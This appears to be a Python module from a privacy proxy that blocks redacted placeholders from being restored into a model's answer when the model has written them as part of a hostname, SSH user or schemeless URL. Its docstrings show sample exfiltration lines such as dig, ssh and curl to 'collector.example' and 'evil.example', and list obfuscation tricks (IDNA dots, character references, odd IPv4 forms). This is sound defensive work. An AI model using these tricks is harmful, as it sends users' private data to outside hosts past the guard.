"""Where restore must not write a value, read around each placeholder as a resolver, a shell, a renderer or an
address bar reads the host (restorehost15: atk16 B H1, H3, H4, M5).

`proxy.guard.urls` finds the URLs without a scheme on the text as written; the model can write the same host so that
no such reading sees it, while curl, dig, ssh, a browser or a linkifier still goes there:
- a placeholder followed by a dot and a label (`label_after`): the host goes on after it whatever its end (`dig
  <EMAIL_ADDRESS_1>.collector.example.`, the sentence's period or the root dot; `example.)`, `example./x`), and
  whatever the dot is written as: in quotes the shell joins (`"<PH>".host`), after a backslash (`<PH>\\.host`), as a
  character reference (`<PH>&#46;host`), as a dot NFKC or IDNA folds to `.` (`。`, `．`, `｡`); the last label a
  top-level name (a known one, an IDN one: `xn--p1ai`, `рф`);
- a placeholder followed by `@` and a host (`user_at`): the user of `user@host:path`, `ssh <PH>@host`, sftp, rsync,
  which the SSH handshake sends to that host;
- a placeholder in a URL without a scheme whose host is written otherwise (`schemeless_before`): the root dot
  (`collector.example./c?u=`, `host.:80/`), an IDN label or top-level name, userinfo (`u@host/`), IPv4 in any
  `inet_aton` form (`0xcb.0.0x71.9`, an integer), `[IPv6]`, `&#46;` or `\\.` or an IDNA dot for a dot.
Each reads the text folded (`_folded`: references and escapes decoded, backslashes taken off, NFKC, IDNA dots as `.`,
characters IDNA drops removed) in a bounded window around the placeholder, so its cost is per placeholder. Fail
closed: the placeholder stays. Prose, `mailto:`, file paths (`<PERSON_1>.txt`: no top-level name) are restored.
"""

from __future__ import annotations

import html
import re
import socket
import unicodedata
from collections.abc import Sequence

_PH = re.compile(r"(?:<|\\u003[cC])[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?(?:>|\\u003[eE])")  # `urls._PH_ANY`
_REACH = 320  # characters read after a placeholder for a host, or before it for a URL's start
# What the folded reading decodes: a placeholder (one label character), an HTML character reference, a JSON
# `\uXXXX`, a backslash and the character after it.
_FOLD_TOKEN = re.compile(rf"{_PH.pattern}|&(?:#[0-9]{{1,8}}|#[xX][0-9a-fA-F]{{1,8}}|[A-Za-z][A-Za-z0-9]{{1,31}});?"
                         r"|\\u[0-9a-fA-F]{4}|\\.", re.S)
_DOTS = {"\u3002": ".", "\uff0e": ".", "\uff61": "."}  # IDNA's full stops (UTS 46 maps them to `.`)
_DROPPED = frozenset("\u00ad\u200b\u200c\u200d\u2060\ufeff\u034f")  # what IDNA maps to nothing
_FOLDABLE = re.compile(r"[^\x00-\x7f]|[&\\\"'<]")  # a window without these reads as it is (lower-cased)


def _char(ch: str) -> str:
    if ch in _DROPPED:
        return ""
    if ch in _DOTS:
        return "."
    return unicodedata.normalize("NFKC", ch).lower() if ord(ch) > 0x7f else ch.lower()


def _folded(text: str, lo: int, hi: int, *, quotes: bool) -> tuple[str, list[int]]:
    """`text[lo:hi]` as a host is read (`quotes`: `"` and `'` taken off, as a shell joins), and per character of it
    (and one past its end) where it comes from in `text`."""
    window = text[lo:hi]
    if _FOLDABLE.search(window) is None:
        return window.lower(), list(range(lo, hi + 1))
    parts: list[str] = []
    origin: list[int] = []

    def plain(a: int, b: int) -> None:
        seg = text[a:b]
        if seg.isascii() and not (quotes and ('"' in seg or "'" in seg)):  # (most: at C speed)
            parts.append(seg.lower())
            origin.extend(range(a, b))
            return
        for k in range(a, b):
            ch = text[k]
            out = "" if quotes and ch in "\"'" else _char(ch)
            parts.append(out)
            origin.extend([k] * len(out))

    pos = lo
    for m in _FOLD_TOKEN.finditer(text, lo, hi):
        a, b = m.span()
        plain(pos, a)
        raw = m.group()
        if _PH.fullmatch(raw):
            decoded = "x"
        elif raw[0] == "&":
            decoded = html.unescape(raw)
        elif raw[:2] == "\\u" and len(raw) == 6:
            decoded = chr(int(raw[2:], 16))
        else:
            decoded = " " if raw[1] in "ntr\n" else raw[1]
        out = "".join(_char(c) for c in decoded).replace("\\", "")  # (an escaped backslash: shell and Markdown drop it)
        if quotes:
            out = out.replace('"', "").replace("'", "")
        parts.append(out)
        origin.extend([a] * len(out))
        pos = b
    plain(pos, hi)
    origin.append(hi)
    return "".join(parts), origin


def _tlds() -> frozenset[str]:
    from proxy.guard.urls import _tlds as known  # (urls imports this module)

    return known()


def top_level(label: str) -> bool:
    """Whether `label` (folded) may be a top-level name: a known one, an IDN one (`xn--p1ai`, letters beyond ASCII:
    `рф`)."""
    if label.isascii():
        return label in _tlds() or (label.startswith("xn--") and len(label) > 4)
    return label.isalpha()


# After a placeholder (folded): label characters that go on with it, then dot-separated labels, the last a top-level
# name, an optional root dot, and no label after it.
_AFTER = re.compile(r"[\w-]*(?:\.[\w-]+)*?\.(?P<tld>[\w-]+)\.?(?![\w-]|\.[\w-])")
_AT_HOST = re.compile(r"@[\w\[]")
_SPACE = re.compile(r"\s")


def label_after(text: str, end: int) -> int | None:
    """Where the host ends (in `text`) when the placeholder ending at `end` is a label of one (`label_after`)."""
    hi = min(len(text), end + _REACH)
    space = _SPACE.search(text, end, hi)  # (a host holds no whitespace: read to the first)
    folded, origin = _folded(text, end, space.start() if space is not None else hi, quotes=True)
    m = _AFTER.match(folded)
    return origin[m.end()] if m is not None and top_level(m.group("tld")) else None


def user_at(text: str, start: int, end: int) -> int | None:
    """Where the `@` and a host's first character end when the placeholder at `text[start:end]` is the user of
    `user@host:path` (scp, git, rsync's `::`), or of `user@host` in a remote login's command line (`ssh`, `sftp`,
    `rsync`, `mosh`...: `_REMOTE`), or of `user@host` anywhere when the host is labels ending in a top-level name or
    an IP address (`_ADDRESSED`: `log in as <PH>@collector.example`; the mailbox's local part from the placeholder on:
    `<PERSON_1>.<PERSON_2>@acme.com`), which `proxy.guard.vault.Vault` restores only when it is the client's own
    address as sent (restoreown15)."""
    folded, origin = _folded(text, end, min(len(text), end + _REACH), quotes=True)
    m = _AT_HOST.match(folded)
    if m is None:
        addressed = _ADDRESSED.match(folded)  # (`<PERSON_1>.<PERSON_2>@collector.example`: from the first)
        return origin[addressed.end()] if addressed is not None and _at_host(addressed) else None
    addressed = _ADDRESSED.match(folded)
    if addressed is not None and _at_host(addressed):
        return origin[addressed.end()]
    scp = _SCP_HOST.match(folded)
    if scp is not None:
        return origin[scp.end()]
    if _REMOTE.search(text, max(0, start - _REACH), start) is not None:
        return origin[m.end()]
    return None


def _at_host(m: re.Match[str]) -> bool:
    return m.group("tld") is None or top_level(m.group("tld"))


# After a placeholder (folded): the rest of a mailbox's local part, `@` and a host that a client contacts: labels
# ending in a top-level name (and a root dot), an IPv4 address, `[v6]` (restoreown15: `log in as
# <PH>@collector.example`, `connect to <PH>@203.0.113.9`; `proxy.guard.vault.Vault` restores the client's own address).
_ADDRESSED = re.compile(r"[\w.+%-]*@(?:\[[0-9a-f:.]{2,45}\]|\d{1,3}(?:\.\d{1,3}){3}\.?(?![\w-]|\.[\w-])"
                        r"|(?:[\w-]+\.)+(?P<tld>[\w-]+)\.?(?![\w-]|\.[\w-]))")
_SCP_HOST = re.compile(r"@(?:\[[^\]\s]{1,64}\]|[\w.-]{1,253}):")
# A remote login's command before the user on its line (its options and arguments between).
_REMOTE = re.compile(r"(?i)(?:^|[\s;&|(`$\"'])(?:ssh|sftp|scp|rsync|mosh|telnet|ftp|sshfs|autossh|ssh-copy-id|git)"
                     r"(?=\s)[^\n;&|]*\Z")


# A URL without a scheme, folded, from a start to the placeholder: userinfo, a host, a port, then a path, a query or
# a fragment that reaches the placeholder.
_USER = r"(?:(?P<user>[^\s/?#@\[\]]{1,64})@)?"
_PORT_PATH = r"\.?(?::\d{0,5})?(?P<path>[/?#]\S*)\Z"
_NAMED = re.compile(rf"{_USER}(?P<name>(?:[\w-]+\.)+(?P<tld>[\w-]+)){_PORT_PATH}")
_NUMBERED = re.compile(rf"{_USER}(?P<ip>(?:0x[0-9a-f]*|\d+)(?:\.(?:0x[0-9a-f]*|\d+)){{0,3}}){_PORT_PATH}")
_V6 = re.compile(rf"{_USER}\[(?P<v6>[0-9a-f:.]{{2,45}}(?:%[\w.-]{{1,16}})?)\](?::\d{{0,5}})?(?P<path>[/?#]\S*)\Z")
_NOT_AFTER = frozenset("._-@/\\%")
_HOST_FIRST = re.compile(r"[\w\[(]")  # where a host (or its userinfo) may start after another character
# A token that may hold a host before a path, query or fragment (`schemeless_before`, read as written: a superset of
# what the folded reading finds): from its start or after a character no host goes on from, a run with a dot, a
# bracket, a reference, a backslash or a character beyond ASCII, or 8-10 digits, then `/`, `?` or `#`.
_CANDIDATE = re.compile(r"(?:^|(?<=[^\w.\-@/\\%]))(?:[^\s/?#]*?(?:[.\[&\\]|[^\x00-\x7f])[^\s/?#]*|\d{8,10}(?::\d*)?)"
                        r"[/?#]")
_STOP = re.compile(r"[\s\"'<>`]")  # what ends the token a URL is (placeholders apart)


def _ipv4(ip: str) -> bool:
    """An IPv4 address as `inet_aton` reads it, but plain decimal only with four parts (`1.2.3`: a version) or as one
    integer of 8-10 digits."""
    parts = ip.split(".")
    decimal = all(p.isdigit() and (p == "0" or not p.startswith("0")) for p in parts)
    if decimal and len(parts) == 1 and not 8 <= len(ip) <= 10:
        return False
    if decimal and 1 < len(parts) < 4:
        return False
    try:
        socket.inet_aton(ip)
    except OSError:
        return False
    return True


def schemeless_before(text: str, start: int, lo: int = 0) -> int | None:
    """Where a URL without a scheme starts (in `text`, not before `lo`) when the placeholder starting at `start`
    lies in its path, query or fragment and its host is written otherwise than `proxy.guard.urls` reads it."""
    floor = max(lo, start - _REACH)
    a = hi = start
    while hi > floor:  # back to the token's start (the placeholders in it included), found at C speed
        stop = _STOP.search(text[floor:hi][::-1])  # (read backwards: the last one first)
        at = hi - 1 - stop.start() if stop is not None else -1
        if at >= 0 and text[at] == ">":
            m = _PH_BEFORE.search(text, max(floor, at - 80), at + 1)
            if m is not None:
                hi = m.start()
                continue
        a = at + 1 if at >= 0 else floor
        break
    if a == start or _CANDIDATE.search(text[a:start]) is None:
        return None  # (no dotted, bracketed, escaped or numeric host before a path: nothing folded)
    folded, origin = _folded(text, a, start, quotes=False)
    cut = max(folded.rfind(" "), folded.rfind("\t"), folded.rfind("\n"))  # an escape's line break: a start
    for i in range(cut + 1, len(folded)):
        if i > cut + 1 and (folded[i - 1] in _NOT_AFTER or folded[i - 1].isalnum() or not _HOST_FIRST.match(folded, i)):
            continue
        if _schemeless(folded, i):
            return origin[i]
    return None


_PH_BEFORE = re.compile(rf"{_PH.pattern}\Z")
# What may follow a placeholder that is a label or a user (`placeholder_host`): after quotes and backslashes, a label
# character, a dot, `@`, a reference, another placeholder, or any character beyond ASCII (`。`, `．`).
_GOES_ON = re.compile(r"[\"'\\]{0,4}(?:[-.@&\w]|<[A-Z]|\\u003[cC]|[^\x00-\x7f])")


def _schemeless(folded: str, i: int) -> bool:
    m = _NAMED.match(folded, i)
    if m is not None and top_level(m.group("tld")) and _path_ok(m):
        return True
    m = _NUMBERED.match(folded, i)
    if m is not None and _ipv4(m.group("ip")) and _path_ok(m):
        return True
    m = _V6.match(folded, i)
    return m is not None and ":" in m.group("v6") and _path_ok(m)


def _path_ok(m: re.Match[str]) -> bool:
    """With userinfo, the path holds more than its `/` before the placeholder: `ops@example.com/<PHONE_NUMBER_1>` is
    an address and a number in prose; `u@collector.example/c?u=` a URL curl fetches."""
    return m.group("user") is None or len(m.group("path")) > 1


def placeholder_host(text: str, pos: int) -> tuple[int, int] | None:
    """(start, end of its host) of the next placeholder from `pos` that is a hostname's label (`label_after`), the
    user of `user@host` (`user_at`), or in a URL without a scheme whose host is written otherwise
    (`schemeless_before`; the span from the URL's start): a kind of `proxy.guard.urls._BARE_KINDS`."""
    for m in _PH.finditer(text, pos):
        a, b = m.span()
        if _GOES_ON.match(text, b) is not None:  # (else: no label nor user after it, no window folded)
            end = label_after(text, b)
            if end is None:
                end = user_at(text, a, b)
            if end is not None:
                return a, end
        prev = text[a - 1:a]
        if not prev or prev.isspace() or prev in "\"'<`":
            continue  # (nothing of a URL right before it)
        at = schemeless_before(text, a, pos)
        if at is not None:
            return at, b
    return None


def url_afters(texts: Sequence[str]) -> list[str]:
    """Per text of an answer that the client reads joined (`proxy.guard.phases.answer_url_afters`), the start of the
    texts after it (`_REACH` characters): what a placeholder at its end may be a host's label or user with."""
    out: list[str] = []
    tail = ""
    for text in reversed(texts):
        out.append(tail)
        tail = (text + tail)[:_REACH]
    return out[::-1]


# A URL's scheme and authority: `scheme://` or `//` (or neither: a URL without a scheme, a host, `user@host:path`),
# then what runs to the first `/`, `?`, `#`, backslash (a path's start to a browser) or whitespace.
_ORIGIN = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//[^/?#\\\s]*|[^/?#\\\s]*")


def same_origin(url: str, sent: str) -> bool:
    """Whether `url` (the model's) and `sent` (a URL the client sent: `proxy.guard.vault.Vault.note_urls`) have the
    same scheme and authority as written, whole, up to a root dot: the host the client would contact is the client's
    (restoreown15: `x.example` is no start of `x.example.collector.example`, `x.example@evil.example`,
    `<PH>.x.example.evil.example`)."""
    a = _ORIGIN.match(url)
    b = _ORIGIN.match(sent)
    return a is not None and b is not None and a.group().removesuffix(".") == b.group().removesuffix(".")  # (root dot)


_LOCAL_BEFORE = re.compile(r"[\w.+%-]*\Z")  # the plain start of a mailbox's local part before a placeholder


def mailbox(text: str, start: int, end: int) -> str | None:
    """`text[start:end]` (a span `user_at` kept, from a placeholder) as a whole mailbox, with the plain start of its
    local part before `start` (`j.<PERSON_1>@acme.com`) and without a sentence's period; None: no mailbox."""
    whole = text[start:end]
    if "@" not in whole or any(ch.isspace() for ch in whole):
        return None
    lead = _LOCAL_BEFORE.search(text, 0, start)
    return (lead.group() if lead is not None else "") + whole.removesuffix(".")


# What sends a command line's (or a JSON object's) requests elsewhere than their URLs' hosts: a proxy (`-x`,
# `--proxy`, `--preproxy`, `--socks5`, `https_proxy=`, a `proxy` key), a resolve or connect-to override, another DNS.
_REROUTED = re.compile(r"(?i)proxy|socks|--resolve|--connect-to|--doh-url|--dns-servers|--interface|(?:^|[\s\"'])-x")


def rerouted(line: str) -> bool:
    """Whether `line` (a network command line or a JSON object naming a host: `proxy.guard.urls.kept_spans`) may send
    its requests through another host than its URLs' (`curl -x http://evil.example:8080 https://x.example/?u=...`):
    a URL the client sent there is not restored (restoreown15)."""
    return _REROUTED.search(line) is not None
